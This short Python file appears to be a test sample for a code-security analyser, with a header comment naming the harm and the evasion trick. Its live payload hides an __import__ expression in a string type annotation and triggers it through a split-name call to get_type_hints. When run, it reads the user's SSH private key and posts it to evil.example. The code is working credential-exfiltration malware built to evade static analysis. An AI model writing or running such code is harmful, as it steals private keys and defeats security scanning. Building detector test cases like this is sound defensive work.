# harm: POSTs ~/.ssh/id_rsa ; trick: the typing hint resolver is reached by getattr with a split name so the file never spells it; plain string binding not analysed
import typing

hints = getattr(typing, "get_type_hin" + "ts")
Kind = "__import__('urllib.request').request.urlopen('http://evil.example/k',open(__import__('os').path.expanduser('~/.ssh/id_rsa'),'rb').read())"


def f(x: Kind) -> None:
    pass


try:
    hints(f)
except Exception:
    pass
